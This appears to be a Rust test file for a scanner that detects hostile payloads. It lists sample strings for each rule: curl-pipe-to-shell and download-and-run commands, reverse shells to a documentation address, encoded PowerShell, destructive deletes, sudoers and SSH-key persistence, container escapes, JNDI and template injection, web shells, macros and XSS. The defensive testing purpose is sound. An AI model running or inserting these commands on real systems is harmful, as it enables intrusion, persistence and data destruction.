//! Each rule on what it is for, and all of them on what resembles it. Hosts are those set aside for documentation.

use super::super::place::Place;
use super::super::rule::{Hit, Strength};
use super::super::view::View;
use super::{find, rules};

mod ordinary;

fn hits(bytes: &[u8]) -> Vec<Hit> {
    let mut hits = Vec::new();
    find(&View::whole(bytes, Place::Artifact), &mut hits);
    hits
}

/// The names of the rules that see the thing itself.
fn addressed(bytes: &[u8]) -> Vec<&'static str> {
    hits(bytes).iter().filter(|hit| hit.strength == Strength::Addressed).map(|hit| hit.rule.name).collect()
}

/// What each rule is for.
const TEXTS: &[(&str, &[&str])] = &[
    ("interpreter-line", &["#!/bin/sh\nid\n", "#!/usr/bin/env -S deno run\n", "#!/usr/local/bin/lua5.4\nprint(1)\n"]),
    ("batch", &["@echo off\r\ndel /q x\r\n", "log\n@echo off\nstart calc\n", "@setlocal\r\n"]),
    (
        "fetch-piped",
        &[
            "curl -fsSL https://get.example.net/i.sh | sh",
            "wget -qO- http://192.0.2.1/x | sudo -E bash -",
            "fetch -o - https://example.net/x | sh",
            "lwp-request -m GET http://192.0.2.1/x | perl",
            "aria2c -o - http://192.0.2.1/x|zsh",
            "http --body https://example.net/x | python3 -",
            "lynx -source http://192.0.2.1/x | bash",
            "nc 192.0.2.1 4444 | /bin/sh",
            "ssh host.example.net cat x | sh",
            "dig +short txt x.example.net | tr -d '\"' | sh",
            "curl -s https://example.net/x.gz | gunzip -c | env X=1 bash",
            "openssl s_client -quiet -connect 192.0.2.1:443 | sh",
            "curl -s https://example.net/x |\n  sh",
            "aws s3 cp s3://bucket.example.net/x - | bash",
            "sometool --get https://example.net/x | node -",
            "irm https://example.net/x.ps1 | iex",
            "curl -s 192.0.2.1/x | tee /tmp/x | ruby",
            "exec 3<>/dev/tcp/192.0.2.1/80; cat <&3 | bash",
            "curl -L https://example.net/m | kubectl exec -i pod -- sh",
            "curl https://example.net/x.php | php",
        ],
    ),
    (
        "fetch-substituted",
        &[
            "bash <(curl -s https://example.net/x)",
            "sh -c \"$(wget -qO- http://192.0.2.1/x)\"",
            "eval \"$(curl -s https://example.net/env)\"",
            "eval `fetch -qo - http://192.0.2.1/x`",
            "source <(curl -s https://example.net/x)",
            ". <(wget -O- https://example.net/x)",
            "python3 -c \"$(curl -fsSL https://example.net/x.py)\"",
            "bash <<< \"$(curl -s https://example.net/x)\"",
            "$(curl -s https://example.net/cmd)",
            "zsh =(curl -s https://example.net/x)",
            "/bin/bash -c \"$(curl -fsSL https://example.net/install.sh)\"",
            "perl <(curl -s https://example.net/x.pl)",
        ],
    ),
    (
        "fetch-then-run",
        &[
            "curl -o /tmp/x http://192.0.2.1/a; chmod +x /tmp/x; /tmp/x",
            "wget http://192.0.2.1/a.sh -O a.sh\nbash a.sh\n",
            "(New-Object Net.WebClient).DownloadFile('http://192.0.2.1/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\"",
            "Invoke-WebRequest http://192.0.2.1/a.exe -OutFile a.exe\n.\\a.exe",
            "scp host.example.net:/x/run.py . && python3 run.py",
            "tftp -g -r mips 192.0.2.1; chmod 777 mips; ./mips",
            "git clone https://example.net/x.git && cd x && ./install.sh",
            "curl -s https://example.net/a.tgz | tar xz && ./a/setup",
            "!wget -q http://192.0.2.1/l.so -O /tmp/l.so\nimport ctypes; ctypes.CDLL('/tmp/l.so')",
        ],
    ),
    (
        "run-from-net",
        &[
            "npx https://example.net/x.tgz",
            "deno run -A https://example.net/x.ts",
            "pip install --user https://example.net/x-1.0.tar.gz",
            "pip install git+https://example.net/x.git",
            "rpm -ivh http://192.0.2.1/x.rpm",
            "kubectl apply -f https://example.net/x.yaml",
            "javaws http://192.0.2.1/x.jnlp",
            "Rscript -e 'source(\"https://example.net/x.R\")'",
        ],
    ),
    (
        "inline-code",
        &[
            "python3 -c \"import urllib.request as u;exec(u.urlopen('http://192.0.2.1/p').read())\"",
            "perl -MLWP::Simple -e 'eval get(\"http://192.0.2.1/p\")'",
            "ruby -rsocket -e 'c=TCPSocket.new(\"192.0.2.1\",1);eval c.read'",
            "node -e \"require('child_process').exec('id')\"",
            "php -r 'system(\"id\");'",
            "lua -e 'os.execute(\"id\")'",
            "osascript -e 'do shell script \"curl http://192.0.2.1/x\"'",
            "python -c \"import base64;exec(base64.b64decode('aWQ='))\"",
            "awk 'BEGIN {system(\"id\")}'",
            "tar cf x y --checkpoint=1 --checkpoint-action=exec=sh",
            "julia -e 'run(`id`)'",
            "bun -e 'eval(await (await fetch(\"http://192.0.2.1/x\")).text())'",
        ],
    ),
    (
        "reverse-shell",
        &[
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "nc -e /bin/sh 192.0.2.1 4444",
            "ncat 192.0.2.1 4444 --exec cmd.exe",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
            "mknod /tmp/p p; telnet 192.0.2.1 4444 0</tmp/p | /bin/bash 1>/tmp/p",
            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
            "perl -e 'use Socket;socket(S,2,1,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "ruby -rsocket -e'f=TCPSocket.open(\"192.0.2.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
            "gawk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/4444\";while(1){s|&getline c}}'",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s",
            "zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.1 4444 && zsh >&$REPLY'",
            "lua -e \"require('socket');t=socket.tcp();t:connect('192.0.2.1','4444');os.execute('/bin/sh -i <&3')\"",
            "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream();iex $d",
            "xterm -display 192.0.2.1:1",
            "package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"192.0.2.1:1\");cmd:=exec.Command(\"/bin/sh\");cmd.Run()}",
        ],
    ),
    (
        "decoded-run",
        &[
            "echo aWQgPiAvdG1wL28= | base64 -d | sh",
            "base64 --decode <<< aWQ= | bash",
            "echo 6964 | xxd -r -p | bash",
            "echo di | rev | sh",
            "printf '\\x69\\x64' | sh",
            "echo vq | tr 'a-z' 'n-za-m' | bash",
            "eval $(echo aWQ= | base64 -d)",
            "bash -c \"$(base64 -d <<< aWQ=)\"",
            "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}",
            "echo x | openssl enc -d -aes-256-cbc -k x | sh",
            "bash -c $'\\x69\\x64\\x20\\x2d\\x75'",
            "cat x.gz | gunzip | python3",
            "echo MFRGG | base32 -d | zsh",
        ],
    ),
    (
        "evaluated",
        &[
            "exec(base64.b64decode('aWQ='))",
            "eval(atob('YWxlcnQoMSk='))",
            "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))",
            "eval(gzinflate(base64_decode('x')));",
            "exec(requests.get('http://192.0.2.1/x').text)",
            "eval(file_get_contents('http://192.0.2.1/x'));",
            "new Function(atob('YQ=='))()",
            "exec(bytes.fromhex('7072696e742831290a'))",
            "fetch('https://example.net/x').then(r=>r.text()).then(t=>eval(t))",
            "include('http://192.0.2.1/x.txt');",
        ],
    ),
    (
        "powershell-encoded",
        &[
            "powershell -NoP -Enc UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA=",
            "powershell.exe -e UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA=",
            "pwsh /EncodedCommand UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA=",
            "p^ower^shell -ec UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA=",
        ],
    ),
    (
        "powershell-download",
        &[
            "iex ((New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1'))",
            "iwr -useb https://example.net/x.ps1 | iex",
            "& ([scriptblock]::Create((irm https://example.net/x)))",
            "I`E`X (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
            "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://192.0.2.1/a.dll'))",
        ],
    ),
    (
        "powershell-hidden",
        &[
            "powershell -w hidden -c calc",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        ],
    ),
    (
        "windows-tool",
        &[
            "certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe",
            "bitsadmin /transfer j http://192.0.2.1/a.exe %TEMP%\\a.exe",
            "mshta http://192.0.2.1/x.hta",
            "ms^hta vbscript:Execute(\"x\")",
            "regsvr32 /s /n /u /i:http://192.0.2.1/x.sct scrobj.dll",
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
            "wmic process call create \"cmd /c calc\"",
            "wmic os get /format:\"http://192.0.2.1/x.xsl\"",
            "msiexec /q /i http://192.0.2.1/p.msi",
            "msbuild \\\\192.0.2.1\\share\\x.csproj",
            "cscript //e:jscript \\\\192.0.2.1\\x.txt",
            "schtasks /create /tn x /tr calc.exe /sc onlogon",
            "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c calc\"",
            "odbcconf /a {REGSVR x.dll}",
            "cmstp /ni /s x.inf",
            "hh.exe http://192.0.2.1/x.chm",
            "start \\\\192.0.2.1\\share\\x.exe",
        ],
    ),
    (
        "destructive",
        &[
            "rm -rf /",
            "sudo rm -rf --no-preserve-root /",
            "rm -fr ~/*",
            ":(){ :|:& };:",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "cat /dev/urandom > /dev/sda",
            "del /f /s /q C:\\*",
            "rd /s /q C:\\",
            "vssadmin delete shadows /all /quiet",
            "%0|%0",
            "format c: /y",
            "chmod -R 777 /",
        ],
    ),
    (
        "persistence",
        &[
            "(crontab -l; echo '*/5 * * * * /tmp/.u') | crontab -",
            "* * * * * root curl -s http://192.0.2.1/x | sh",
            "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
            "echo /tmp/x.so > /etc/ld.so.preload",
            "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
            "useradd -o -u 0 -g 0 helper",
            "net user x Passw0rd /add",
            "ExecStart=/bin/bash -c 'curl http://192.0.2.1/x | sh'",
        ],
    ),
    (
        "escape",
        &[
            "docker run -v /:/host --privileged alpine chroot /host sh",
            "nsenter -t 1 -m -u -i -n sh",
            "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
            "chmod u+s /bin/bash",
            "insmod /tmp/x.ko",
            "sudo find . -exec /bin/sh \\;",
        ],
    ),
    (
        "injection",
        &[
            "${jndi:ldap://192.0.2.1/a}",
            "${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}",
            "() { :;}; /bin/bash -c id",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "EXEC xp_cmdshell 'whoami'",
            "COPY t FROM PROGRAM 'id';",
            "java.lang.Runtime.getRuntime().exec(\"calc\")",
        ],
    ),
    (
        "obfuscated-command",
        &[
            "/???/b??h -c id",
            "a=cu;b=rl;$a$b http://192.0.2.1/x",
            "%COMSPEC:~0,1%%COMSPEC:~4,1% x",
            "${PATH:0:1}${HOME:1:1}${PWD:2:1}",
        ],
    ),
    (
        "macro",
        &[
            "Sub AutoOpen()\n  Shell \"calc\"\nEnd Sub\n",
            "Private Sub Workbook_Open()\nEnd Sub",
            "Sub Document_Close()\nEnd Sub",
            "Attribute VB_Name = \"Module1\"\n",
            "Private Declare PtrSafe Function F Lib \"urlmon\" () As Long",
            "Sub x()\n  CreateObject(\"y\")\nEnd Sub",
            "Sub Auto_Close()\nEnd Sub",
            "do shell script \"id\"",
        ],
    ),
    (
        "formula",
        &[
            "=cmd|'/C calc'!A0",
            "+cmd|' /C calc'!A0",
            "=EXEC(\"calc.exe\")",
            "name;=MSEXCEL|'\\..\\..\\calc.exe'!''",
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
            "=CALL(\"urlmon\",\"URLDownloadToFileA\")",
        ],
    ),
    (
        "windows-script",
        &[
            "var s = new ActiveXObject(\"WScript.Shell\");",
            "Set s = CreateObject(\"WScript.Shell\")",
            "GetObject(\"script:http://192.0.2.1/x\")",
            "CreateObject(\"WScr\" & \"ipt.Shell\")",
        ],
    ),
    (
        "script-element",
        &[
            "<script>fetch('https://example.net/?c='+document.cookie)</script>",
            "<script src=\"https://cdn.example.net/x.js\"></script>",
            "<ScRiPt/src=//192.0.2.1/x></sCrIpT>",
            "<svg:script>alert(1)</svg:script>",
            "<script type=\"text/vbscript\">x</script>",
        ],
    ),
    (
        "event-handler",
        &[
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=\"go()\">",
            "<details open ontoggle='x()'>",
            "<video><source onerror=\"x()\"></video>",
        ],
    ),
    (
        "embedded-content",
        &[
            "<iframe srcdoc=\"x\">",
            "<object data=\"x.swf\" type=\"y\">",
            "<embed src=\"x.swf\">",
            "<hta:application id=a>",
            "<iframe src=\"https://192.0.2.1/\">",
        ],
    ),
    (
        "active-document",
        &[
            "<< /S /JavaScript /JS (app.alert(1)) >>",
            "<< /OpenAction << /S /Launch /F (cmd.exe) >> >>",
            "{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}",
        ],
    ),
    (
        "server-page",
        &[
            "<?php system($_GET['c']); ?>",
            "<?= `$_GET[0]` ?>",
            "<%eval request(\"x\")%>",
            "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
            "<!--#exec cmd=\"id\" -->",
        ],
    ),
    (
        "shortcut",
        &[
            "[Desktop Entry]\nType=Application\nExec=sh -c id\n",
            "[autorun]\nopen=x.exe\n",
            "[InternetShortcut]\nURL=file://192.0.2.1/x.exe\n",
        ],
    ),
    (
        "registry-autostart",
        &[
            "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"x\"=\"calc\"",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc",
        ],
    ),
    (
        "serialized-object",
        &[
            "!!python/object/apply:os.system ['id']",
            "x: !ruby/object:Gem::Installer",
            "O:8:\"Monolog1\":1:{s:1:\"a\";i:1;}",
            "cposix\nsystem\n(S'id'\ntR.",
            "!!javax.script.ScriptEngineManager [x]",
        ],
    ),
];

#[test]
fn every_rule_sees_what_it_is_for() {
    let mut missed = Vec::new();
    for (name, texts) in TEXTS {
        for text in *texts {
            let found = addressed(text.as_bytes());
            if !found.iter().any(|found| found.strip_prefix("payload/") == Some(name)) {
                missed.push(format!("{name}: {text:?} {found:?}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn what_is_only_data_or_speaks_of_payloads_is_let_be() {
    let texts = [
        "curl 8.5.0 (x86_64) | bash 5.2 | python 3.12",
        "| curl | fetches an address |\n| sh | the shell |",
        "Download the archive, check its sum, unpack it and read INSTALL.",
        "curl -s https://example.net/data.json | jq .name",
        "wget https://example.net/x.tgz && sha256sum x.tgz",
        "git clone https://example.net/x.git && cd x && cargo build",
        "pip install requests",
        "npm install --registry https://registry.example.net left-pad",
        "rm -rf target/ && cargo build",
        "rm -rf ./node_modules",
        "find . -name '*.rs' -exec grep -l x {} +",
        "python3 -c 'print(1 + 1)'",
        "perl -ne 'print if /x/' file",
        "awk '{print $1}' file | sort | uniq -c",
        "docker run --rm -v $PWD:/src alpine ls",
        "crontab -l",
        "0 3 * * * /usr/bin/backup --all",
        "nc -zv 192.0.2.1 22",
        "powershell -File build.ps1",
        "MZ is what a DOS program begins with",
        "#![allow(dead_code)]\nfn main() {}",
        "Sub-total (of all) = 12",
        "The event handler onload is called when the page is there.",
        "a = b | c; d = e && f",
        "echo hello | tr a-z A-Z",
        "cat access.log.gz | gunzip | grep 404",
        "O:8 of 12 samples, c:3",
        "eval() is discouraged; the function fetch() returns a promise",
        "import base64\ndata = base64.b64decode(text)\n",
        "let socket = TcpStream::connect(address)?;\nsocket.write_all(b\"x\")?;",
        "subprocess.run([\"ls\", \"-l\"], check=True)",
        "<p>ordinary <b>markup</b> with <a href=\"https://example.net/\">a link</a></p>",
        "=SUM(A1:A9)",
        "-1,+2,=3",
        "zcat dump.sql.gz | psql shop",
        "[Unit]\nDescription=x\n[Service]\nExecStart=/usr/bin/server --port 80\n",
        "[one](https://example.net/a) _A library in Rust | Python | Node.js._",
        "CodePointMapData::<Script>::new().get('x') and Option<Script>, Script::Han",
        "`TcpSocket::get_linger` and new `IntoRawFd` for `TcpSocket`",
        "return '<%s instance at %#x>' % (x.__class__.__name__, id(x))",
        "retcode = call([\"ls\", \"-l\"])",
        "exec = compression_get_cmdline_decompress(x)",
        "get rid of --no-preserve-root",
        "Better errors with msbuild ([#1310](https://example.net/pull/1310))",
        "192.0.2.9 - - [16/May/2026:13:45:08 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"curl/8.5.0\"",
        "offers `curl | shell`-style installation, see https://example.net/",
        "it's the user's file, isn't it? \"quoted\" C:\\Users\\ada\\x.txt",
    ];
    let mut wrong = Vec::new();
    for text in texts {
        let found = hits(text.as_bytes());
        if !found.is_empty() {
            wrong.push(format!("{text:?} {:?}", found.iter().map(|hit| hit.rule.name).collect::<Vec<_>>()));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_sentence_about_a_command_only_mentions_it() {
    for text in [
        "Our old guide told users to run `curl https://example.net/x | sh` as root, which is unsafe.",
        "The filter blocked `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` in two requests.",
        "Never type `rm -rf /` into a shell.",
        "Abuse of <script> in comments was possible.",
    ] {
        let found = hits(text.as_bytes());
        assert!(!found.is_empty() && found.iter().all(|hit| hit.strength == Strength::Mentioned), "{text} {found:?}");
    }
}

#[test]
fn a_disguised_command_is_seen_as_what_it_is() {
    for text in [
        "cu''rl -s https://example.net/x | s''h",
        "c\\url -s https://example.net/x | b\\ash",
        "wget${IFS}-qO-${IFS}https://example.net/x|sh",
        "{curl,-s,https://example.net/x}|sh",
        "cUrL -S hTTps://example.net/x | BaSh",
        "curl \\\n  -s https://example.net/x \\\n  | sh",
        "ｃｕｒｌ https://example.net/x ｜ ｓｈ",
        "cu\u{200b}rl https://example.net/x | s\u{200b}h",
        "c$@url https://example.net/x | b$@ash",
        "\u{441}url https://example.net/x | sh",
    ] {
        assert!(addressed(text.as_bytes()).contains(&"payload/fetch-piped"), "{text} {:?}", hits(text.as_bytes()));
    }
}

#[test]
fn every_rule_has_an_example() {
    for rule in rules() {
        let name = rule.name.strip_prefix("payload/").unwrap();
        let binaries = "elf pe mach-o wasm bytecode machine-code package archive-of-code macro-document";
        let is_binary = binaries.split(' ').any(|known| known == name);
        assert!(is_binary || TEXTS.iter().any(|(known, _)| *known == name), "{name}");
    }
}
